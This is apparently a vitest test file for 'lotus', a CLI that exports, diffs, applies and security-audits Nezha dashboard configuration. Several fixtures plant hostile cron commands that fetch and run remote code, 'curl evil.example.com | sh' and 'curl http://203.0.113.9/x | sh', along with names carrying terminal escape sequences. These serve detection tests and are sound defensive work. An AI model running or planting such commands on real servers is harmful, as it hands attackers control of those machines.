import { readFile, writeFile } from 'node:fs/promises'
import { expect, test } from 'vitest'
import type { Seed } from '#backend/index.ts'
import {
  builtCommand,
  closedAddress,
  listening,
  listeningWithOwnCertificate,
  passwordLogin,
  served,
} from './command.ts'

const { run, start, file, inFolder } = builtCommand()

const dialects = ['classic', 'current'] as const

const uuid = '5d4b1a70-0000-4000-8000-000000000001'
const seed: Seed = {
  user: [
    { id: 1, username: 'admin', password: 'admin', role: 0 },
    { id: 2, username: 'ops', password: 'ops-password', role: 1 },
  ],
  server: [{ id: 1, name: 'tokyo', uuid }],
  cron: [{ id: 1, name: 'backup', servers: [1], scheduler: '@daily', command: 'backup.sh' }],
  nat: [{ id: 4, name: 'box', server_id: 1, host: '127.0.0.1:80', domain: 'box.example.com' }],
  notification: [{ id: 3, name: 'chat', url: 'https://chat.example.com/hook' }],
  notification_group: [{ id: 2, name: 'team', notifications: [3] }],
}

const token = (scopes: string[] = ['nezha:*'], user_id = 1): Seed => ({
  api_token: [{ token: 'nzp_a', scopes, user_id }],
})

const withToken = { LOTUS_TOKEN: 'nzp_a' }

test.each(dialects)(
  'lotus: what a %s server exports makes an empty one the same, once it is confirmed',
  async (dialect) => {
    const source = await served({ dialect, seed })
    const target = await served({ dialect, seed: { server: [{ id: 7, name: 'tokyo', uuid }] } })
    expect(
      await run(['export', '--server', source.address, '--output', inFolder('all.yaml')], passwordLogin()),
    ).toEqual({
      code: 0,
      output: '',
      complaint: '',
    })
    const secrets = await file(
      'secrets.yaml',
      'notification: { 3: { url: http://127.0.0.1:9/hook } }\nuser: { 2: { password: ops-password } }\n',
    )
    const there = ['--server', target.address, '--secrets', secrets]
    const planned = await run(['plan', 'all.yaml', ...there], passwordLogin())
    expect(planned).toMatchObject({ code: 2, complaint: '' })
    expect(planned.output).toContain('Task backup: Only in the file. Create.\n')
    expect(await run(['apply', 'all.yaml', ...there], passwordLogin())).toEqual(planned)
    expect(target.backend.tables).toMatchObject({ cron: [], nat: [], notification: [] })

    const applied = await run(['apply', 'all.yaml', '--yes', ...there], passwordLogin())
    expect(applied).toMatchObject({ code: 0, complaint: '' })
    expect(applied.output).toContain('Task backup: Only in the file. Created.\n')
    expect(target.backend.tables.cron).toMatchObject([{ name: 'backup', command: 'backup.sh', servers: [7] }])
    expect(await run(['plan', 'all.yaml', '--server', target.address], passwordLogin())).toEqual({
      code: 0,
      output: 'Everything in this file is the same on this server.\n',
      complaint: '',
    })
  },
)

test('lotus: what cannot be saved is named with the reason, and the rest is saved', async () => {
  const source = await served({ seed: { ...seed, ...token() } })
  const target = await served({ seed: { server: seed.server!, ...token() } })
  await run(['export', '--server', source.address, '--output', inFolder('all.yaml')], withToken)
  const { code, output } = await run(['apply', 'all.yaml', '--yes', '--server', target.address], withToken)
  expect(code).toBe(1)
  expect(output).toContain('Notifier chat: Only in the file. Not saved.\n  URL: Required\n')
  expect(output).toContain('Task backup: Only in the file. Created.\n')
  expect(target.backend.tables).toMatchObject({ notification: [], cron: [{ name: 'backup' }] })
})

test('lotus plan: --json tells programs each difference with both values', async () => {
  const { backend, address } = await served({ seed: { ...seed, ...token() } })
  await run(['export', '--json', '--server', address, '--output', inFolder('all.json')], withToken)
  backend.tables.cron[0]!.command = 'curl evil.example.com | sh'
  const { code, output } = await run(['plan', 'all.json', '--json', '--server', address], withToken)
  const { same, records } = JSON.parse(output) as { same: boolean; records: { finding: string }[] }
  expect([code, same]).toEqual([2, false])
  expect(records.filter(({ finding }) => finding !== 'same')).toEqual([
    {
      resource: 'cron',
      id: 1,
      name: 'backup',
      finding: 'different',
      action: 'update',
      differences: [{ field: 'command', here: 'curl evil.example.com | sh', file: 'backup.sh' }],
      left: [],
      without: [],
      problems: [],
    },
  ])
})

test('lotus: settings of one server stay unless --bound takes them', async () => {
  const { backend, address } = await served({ data: 'empty' })
  await run(['export', '--only', 'setting', '--server', address, '--output', inFolder('set.yaml')], passwordLogin())
  backend.setting.install_host = 'other.example.com'
  const left = await run(['plan', 'set.yaml', '--server', address], passwordLogin())
  expect(left.code).toBe(0)
  expect(left.output).toContain('Different. Settings of this one server')
  expect((await run(['apply', 'set.yaml', '--bound', '--yes', '--server', address], passwordLogin())).code).toBe(0)
  expect(backend.setting.install_host).not.toBe('other.example.com')
})

test('lotus: what stays in a record that changes is told apart from what is changed', async () => {
  const { backend, address } = await served({ data: 'empty' })
  await run(['export', '--only', 'setting', '--server', address, '--output', inFolder('two.yaml')], passwordLogin())
  const { site_name } = backend.setting
  Object.assign(backend.setting, { site_name: 'Other', install_host: 'other.example.com' })
  const { output } = await run(['apply', 'two.yaml', '--yes', '--server', address], passwordLogin())
  expect(output.split('\n').map((line) => line.replace(/:.*/, ''))).toEqual([
    'Settings',
    '  Site name',
    '  Settings of this one server, such as its address, stay as they are unless you choose otherwise.',
    '  Agent connect address',
    '',
  ])
  expect(backend.setting).toMatchObject({ site_name, install_host: 'other.example.com' })
})

test.each(dialects)(
  'lotus drift: names what is new, changed and gone on a %s server since the file',
  async (dialect) => {
    const { backend, address } = await served({ dialect, seed })
    const server = ['--server', address]
    await run(['export', '--known', ...server, '--output', inFolder('known.yaml')], passwordLogin())
    const known = await readFile(inFolder('known.yaml'), 'utf8')
    expect(known).not.toMatch(/backup\.sh|password|chat\.example/)
    expect((await run(['drift', 'known.yaml', ...server], passwordLogin())).code).toBe(0)

    const [task] = backend.tables.cron
    backend.tables.cron.push({ ...task!, id: 9, name: 'AutoTask\u001b[2J' })
    task!.command = 'other.sh'
    backend.tables.nat.length = 0
    backend.tables.user[1]!.role = 0
    const { code, output, complaint } = await run(['drift', 'known.yaml', ...server], passwordLogin())
    expect([code, complaint]).toEqual([2, ''])
    expect(output.split('\n').filter((line) => !line.startsWith('  Command'))).toEqual([
      'Task AutoTask\\u001b[2J: Only on the server',
      'Task backup: Different',
      'NAT profile box: No longer on the server',
      'User ops: Different',
      '  Role: 1 → 0',
      '',
    ])
  },
)

test('lotus drift: --json tells programs what has happened to each record', async () => {
  const { backend, address } = await served({ seed: { ...seed, ...token() } })
  await run(['export', '--known', '--server', address, '--output', inFolder('known.yaml')], withToken)
  backend.tables.nat[0]!.host = '127.0.0.1:81'
  backend.tables.cron.length = 0
  const { code, output } = await run(['drift', 'known.yaml', '--json', '--server', address], withToken)
  expect([code, JSON.parse(output)]).toEqual([
    2,
    {
      same: false,
      records: [
        { resource: 'cron', id: 1, name: 'backup', change: 'gone', fields: [] },
        {
          resource: 'nat',
          id: 4,
          name: 'box',
          change: 'changed',
          fields: [{ field: 'host', before: '127.0.0.1:80', now: '127.0.0.1:81' }],
        },
      ],
    },
  ])
})

const miner = { id: 9, name: 'AutoTask', servers: [1], scheduler: '@daily', command: 'curl http://203.0.113.9/x | sh' }

test.each(dialects)('lotus security: says what a break-in has left on a %s server', async (dialect) => {
  const { address } = await served({ dialect, seed: { ...seed, cron: [...seed.cron!, miner] } })
  const { code, output, complaint } = await run(['security', '--server', address], passwordLogin())
  expect([code, complaint]).toEqual([2, ''])
  expect(output).toMatch(/^\[\w+\] Task AutoTask\n.+\n.+\n {2}> .*curl http:\/\/203\.0\.x\.x\/x \| sh$/m)
  expect(output).toContain(new URL(address).host)
  expect(output).not.toContain('backup.sh')
})

test('lotus security: what an earlier report has found fails no more, until it changes', async () => {
  const { backend, address } = await served({ seed: { ...seed, cron: [miner] } })
  const asked = ['--json', '--server', address]
  const first = await run(['security', ...asked], passwordLogin())
  await file('report.json', first.output)
  const second = await run(['security', 'report.json', ...asked], passwordLogin())
  expect([first.code, second.code]).toEqual([2, 0])

  backend.tables.cron[0]!.command = 'curl http://203.0.113.9/y | sh'
  const third = await run(['security', 'report.json', ...asked], passwordLogin())
  expect(third.code).toBe(2)
  const { findings } = JSON.parse(third.output) as { findings: { known: boolean; record?: { name: string } }[] }
  expect(findings.filter(({ known }) => !known).map(({ record }) => record?.name)).toEqual(['AutoTask'])
})

test('lotus security: what a token cannot read is named as not examined, and a file of something other is refused', async () => {
  const { address } = await served({ seed: { ...seed, ...token() } })
  const { output } = await run(['security', '--json', '--server', address], withToken)
  expect((JSON.parse(output) as { unread: string[] }).unread).toContain('advisories')

  await file('other.json', '{}')
  const { code, complaint } = await run(['security', 'other.json', '--server', address], withToken)
  expect([code, complaint]).toEqual([1, 'other.json must hold what lotus security --json has written.\n'])
})

test('lotus plan: a key that means nothing is named, and a text that orders a terminal about is only letters', async () => {
  const { address } = await served({ seed: { ...seed, ...token() } })
  await file(
    'odd.yaml',
    'lotus: 1\ndialect: current\nrecords: { nat: [{ id: 1, name: "a\\e[2J", domin: x, domain: b.example.com }] }\n',
  )
  const { code, output } = await run(['plan', 'odd.yaml', '--server', address], withToken)
  expect(code).toBe(2)
  expect(output).toContain('Not read, because a configuration file has no such key: nat.domin\n')
  expect(output).toContain('NAT profile a\\u001b[2J: Only in the file. Cannot be created.')
  expect(output).not.toContain('\u001b')
})

test('lotus plan: in JSON, too, a text that orders a terminal about is only letters, which a program reads as they were', async () => {
  const { address } = await served({ seed: { ...seed, ...token() } })
  await file('csi.yaml', 'lotus: 1\ndialect: current\nrecords: { nat: [{ id: 1, name: "a\\u009b2J" }] }\n')
  const { output } = await run(['plan', 'csi.yaml', '--json', '--server', address], withToken)
  expect(output).toContain('a\\u009b2J')
  expect(JSON.parse(output)).toMatchObject({ records: [{ name: 'a\u009b2J' }] })
})

test('lotus plan: what only the server has is named, and does not count', async () => {
  const { address } = await served({ seed: { ...seed, ...token(), cron: [miner] } })
  await file('none.yaml', 'lotus: 1\ndialect: current\nrecords: { cron: [] }\n')
  const { code, output } = await run(['plan', 'none.yaml', '--server', address], withToken)
  expect(code).toBe(0)
  expect(output).toContain('Only on the server')
})

test.each([
  ['security', '--only', 'user'],
  ['security', '--output', 'report.json'],
  ['plan', 'two.yaml', '--output', 'plan.txt'],
  ['export', '--bound'],
  ['plan', 'two.yaml', '--yes'],
])('lotus %s %s …: an option that does nothing there is refused before anything is sent', async (...args) => {
  const { backend, address } = await served({ seed: { ...seed, ...token() } })
  const { code, complaint } = await run([...args, '--server', address], withToken)
  expect(code).toBe(1)
  expect(complaint).toMatch(/^lotus \w+ does not take --\w+; see --help\.\n$/)
  expect(backend.calls).toEqual([])
})

test('lotus export: Ctrl+C ends it at once while the server is silent', async () => {
  let asked = () => {}
  const isAsked = new Promise<void>((resolve) => (asked = resolve))
  const address = await listening(() => asked())
  const { ending, child } = start(['export', '--server', address], withToken)
  await isAsked
  child.kill('SIGINT')
  expect(await ending).toMatchObject({ code: null, output: '' })
})

test('lotus: a wrong token is one refused call, and is said in a sentence', async () => {
  const { backend, address } = await served({ seed: { ...seed, ...token() } })
  const { code, output, complaint } = await run(['export', '--server', address], { LOTUS_TOKEN: 'nzp_b' })
  expect([code, output]).toEqual([1, ''])
  expect(complaint).toMatch(/^The server does not accept the API token\. .*\n$/)
  expect(backend.calls.length).toBe(1)
})

test('lotus: a server without tokens says so, and takes a name and a password', async () => {
  const { address } = await served({ dialect: 'classic', seed })
  const { code, complaint } = await run(['export', '--server', address], withToken)
  expect(code).toBe(1)
  expect(complaint).toContain('use a name and a password there')
  const wrong = await run(['export', '--server', address], passwordLogin('admin', 'guess'))
  expect(wrong).toEqual({ code: 1, output: '', complaint: 'The server does not accept this name and password.\n' })
})

test('lotus: a scope that the token lacks is named', async () => {
  const { address } = await served({ seed: { ...seed, ...token(['nezha:inventory:read', 'nezha:nat:read']) } })
  const { code, complaint } = await run(['export', '--server', address], withToken)
  expect(code).toBe(1)
  expect(complaint).toMatch(/^The API token lacks the scope nezha:[\w-]+:read\. .*--only/)
  const narrow = await run(['export', '--only', 'nat', '--server', address], withToken)
  expect(narrow).toMatchObject({ code: 0, complaint: '' })
  expect(narrow.output).toContain('domain: box.example.com')
})

test("lotus: a member's token exports what the member has, and refuses to compare the rest", async () => {
  const { address } = await served({ seed: { ...seed, ...token(['nezha:*'], 2) } })
  const { code, output } = await run(['export', '--server', address], withToken)
  expect(code).toBe(0)
  expect(output).not.toMatch(/^ {2}(user|setting):/m)
  await file('users.yaml', 'lotus: 1\ndialect: current\nrecords: { user: [], nat: [] }\n')
  const { code: refused, complaint } = await run(['plan', 'users.yaml', '--server', address], withToken)
  expect(refused).toBe(1)
  expect(complaint).toContain('does not let you change them: user.')
  expect((await run(['plan', 'users.yaml', '--only', 'nat', '--server', address], withToken)).code).toBe(0)
})

test('lotus apply: one lost answer is looked up, and nothing is made twice', async () => {
  const source = await served({ seed: { ...seed, ...token() } })
  await run(['export', '--only', 'cron,nat', '--server', source.address, '--output', inFolder('few.yaml')], withToken)
  for (const how of ['reset', 'html', 'cut'] as const) {
    const { backend, address } = await served({ seed: { server: seed.server!, ...token() } })
    backend.loseAnswer(1, how)
    expect(await run(['apply', 'few.yaml', '--yes', '--server', address], withToken)).toMatchObject({ code: 0 })
    expect([backend.tables.cron.length, backend.tables.nat.length, backend.writes.length]).toEqual([1, 1, 2])
  }
})

test('lotus apply: what is lost and cannot be looked up counts as failed, and is not sent again', async () => {
  const { backend, address } = await served({ seed: { ...seed, ...token() } })
  await run(['export', '--only', 'cron', '--server', address, '--output', inFolder('task.yaml')], withToken)
  backend.tables.cron[0]!.command = 'other.sh'
  backend.fail({ method: 'PATCH', path: '/cron/1' }, 'network')
  const { code, output } = await run(['apply', 'task.yaml', '--yes', '--server', address], withToken)
  expect(code).toBe(1)
  expect(output).toContain('The server’s answer was lost.')
  expect(backend.calls.filter(({ method }) => method === 'PATCH').length).toBe(1)
})

test('lotus: a list that is lost twice on the way is asked for again', async () => {
  const { backend, address } = await served({ seed: { ...seed, ...token() } })
  backend.fail({ path: '/cron' }, 'html', 2)
  expect((await run(['export', '--only', 'cron', '--server', address], withToken)).code).toBe(0)
})

test('lotus: a refused connection, a page and a redirect are said in one sentence', async () => {
  const page = await listening((_, response) => void response.end('<!doctype html><title>Welcome</title>'))
  const moved = await listening((_, response) => {
    response.writeHead(301, { Location: 'https://nezha.example.com/api/v1/user' }).end()
  })
  const closed = await closedAddress()
  expect(await run(['export', '--server', closed], withToken)).toEqual({
    code: 1,
    output: '',
    complaint: `${closed} cannot be reached: ECONNREFUSED.\n`,
  })
  expect((await run(['export', '--server', page], withToken)).complaint).toBe(
    `${page} does not answer as a Nezha server does, or is too old.\n`,
  )
  expect((await run(['export', '--server', moved], withToken)).complaint).toBe(
    'The server redirects to https://nezha.example.com/api/v1/user; give that address with --server.\n',
  )
})

const server = ['--server', 'https://nezha.example.com']

test.each([
  [[], 'A verb is missing; see --help.'],
  [['restore'], 'There is no verb "restore"; see --help.'],
  [['plan', ...server], 'lotus plan takes one file; see --help.'],
  [['export', 'all.yaml', ...server], 'lotus export takes no file; see --help.'],
  [['export', '--token', 'nzp_a'], "Unknown option '--token'; see --help."],
  [['export'], 'The address of the server is missing: --server URL, or LOTUS_SERVER.'],
  [['export', '--server', 'nezha'], '--server must be an address such as https://nezha.example.com, not "nezha".'],
  [['export', '--server', 'https://a:b@c.example'], 'The address of the server must not contain a password.'],
  [
    ['export', ...server],
    'Credentials are missing: LOTUS_TOKEN or --token-file, or LOTUS_USERNAME and LOTUS_PASSWORD or --login-file.',
  ],
  [['export', ...server, '--token-file', 'none'], 'none cannot be read: ENOENT.'],
])('lotus %j is refused in one sentence', async (args, sentence) => {
  expect(await run(args)).toEqual({ code: 1, output: '', complaint: `${sentence}\n` })
})

test('lotus: credentials come from files, and the file to compare is read before anything is sent', async () => {
  const { backend, address } = await served({ seed: { ...seed, ...token() } })
  const tokenFile = await file('token', 'nzp_a\n')
  const loginFile = await file('login', 'admin\nadmin\n')
  const there = ['--only', 'nat', '--server', `${address}/dashboard/`]
  const [one, other] = [
    await run(['export', ...there, '--token-file', tokenFile]),
    await run(['export', ...there, '--login-file', loginFile]),
  ]
  expect([one.code, other]).toEqual([0, one])
  const before = backend.calls.length
  await file('text.yaml', 'a: b')
  const { code, complaint } = await run(['plan', 'text.yaml', ...there, '--token-file', tokenFile])
  expect([code, complaint]).toEqual([1, 'This file was not saved by Lotus: it lacks the entry “lotus: 1”.\n'])
  expect(backend.calls.length).toBe(before)
})

test.each(['plan', 'apply', 'drift'])('lotus %s: a name that the file does not hold is refused', async (verb) => {
  const { backend, address } = await served({ seed: { ...seed, ...token() } })
  await file('two.yaml', 'lotus: 1\ndialect: current\nrecords: { cron: [], nat: [] }\n')
  const { code, complaint } = await run([verb, 'two.yaml', '--only', 'nat,corn', '--server', address], withToken)
  expect([code, complaint]).toEqual([1, '--only cannot take corn; two.yaml holds cron, nat.\n'])
  expect(backend.calls).toEqual([])
})

test('lotus: files are read as Windows writes them, and refused in another encoding', async () => {
  const { address } = await served({ seed: { ...seed, cron: [miner] } })
  const there = ['--json', '--server', address]
  const login = ['--login-file', await file('marked', '\ufeffadmin\r\nadmin\r\n')]
  const { output } = await run(['security', ...there, ...login])
  await writeFile(inFolder('wide.json'), `\ufeff${output}`, 'utf16le')
  expect(await run(['security', 'wide.json', ...there, ...login])).toMatchObject({ code: 0, complaint: '' })
  await writeFile(inFolder('latin'), 'jürgen\nadmin\n', 'latin1')
  const { code, complaint } = await run(['security', ...there, '--login-file', 'latin'])
  expect([code, complaint]).toEqual([1, 'latin is not text in UTF-8. Save it in that encoding.\n'])
})

test('lotus: certificates are always checked', async () => {
  const address = await listeningWithOwnCertificate(inFolder(''))
  expect((await run(['export', '--server', address], withToken)).complaint).toMatch(
    /^The certificate of https:\S+ is not trusted: DEPTH_ZERO_SELF_SIGNED_CERT\./,
  )
  const env = { ...withToken, NODE_TLS_REJECT_UNAUTHORIZED: '0' }
  const { code, complaint } = await run(['export', ...server], env)
  expect(code).toBe(1)
  expect(complaint).toContain('NODE_TLS_REJECT_UNAUTHORIZED=0 switches the check of certificates off. Remove it.\n')
})

test('lotus: --help says what there is', async () => {
  const { code, output } = await run(['--help'])
  expect(code).toBe(0)
  for (const word of ['export', 'plan', 'apply', 'drift', 'security', '--yes', '--json']) expect(output).toContain(word)
})
